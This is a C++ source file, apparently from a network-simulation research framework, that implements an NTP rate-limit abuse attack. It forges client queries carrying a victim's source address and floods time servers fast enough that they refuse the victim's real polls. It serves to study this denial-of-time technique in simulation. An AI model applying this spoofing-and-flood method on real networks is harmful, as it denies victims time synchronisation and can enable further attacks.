#include "attack/ratelimit_abuser.h"

#include "ntp/packet.h"
#include "ntp/rate_limit.h"

namespace dnstime::attack {

namespace {
/// Inter-packet spacing of the spoofed query stream per target server.
constexpr sim::Duration kFloodSpacing = sim::Duration::millis(400);
static_assert(kFloodSpacing < ntp::kMinGap,
              "the flood must beat the server's `discard minimum` gap, so "
              "every packet sourced from the victim — including its genuine "
              "polls — is refused unconditionally");
}  // namespace

RateLimitAbuser::RateLimitAbuser(net::NetStack& attacker, Ipv4Addr victim)
    : stack_(attacker), victim_(victim) {}

RateLimitAbuser::~RateLimitAbuser() { stop(); }

void RateLimitAbuser::disrupt(Ipv4Addr server) {
  if (targets_.contains(server)) return;

  // Mode-3 query, source address forged to the victim's. The source port
  // is irrelevant: ntpd's `restrict limited` accounting is per address.
  ntp::NtpPacket query;
  query.mode = ntp::Mode::kClient;
  query.tx_time = 1.0;  // arbitrary; the server echoes it to the victim

  net::Ipv4Packet& forged = targets_[server].forged;
  forged.src = victim_;
  forged.dst = server;
  forged.protocol = net::kProtoUdp;
  forged.payload = net::encode_udp_buf(encode_ntp_buf(query), kNtpPort,
                                       kNtpPort, victim_, server);
  flood_tick(server);
}

void RateLimitAbuser::disrupt_all(const std::vector<Ipv4Addr>& servers) {
  for (Ipv4Addr s : servers) disrupt(s);
}

void RateLimitAbuser::stop() {
  // det-lint: allow(unordered-iter) cancelling has no order-dependent effect.
  for (auto& [server, target] : targets_) target.tick.cancel();
  targets_.clear();
}

void RateLimitAbuser::flood_tick(Ipv4Addr server) {
  auto it = targets_.find(server);
  if (it == targets_.end()) return;

  // The copy shares the pooled bytes; send_raw stamps its own origin.
  stack_.send_raw(it->second.forged);
  spoofed_++;

  it->second.tick = stack_.loop().schedule_after(
      kFloodSpacing, [this, server] { flood_tick(server); });
}

}  // namespace dnstime::attack
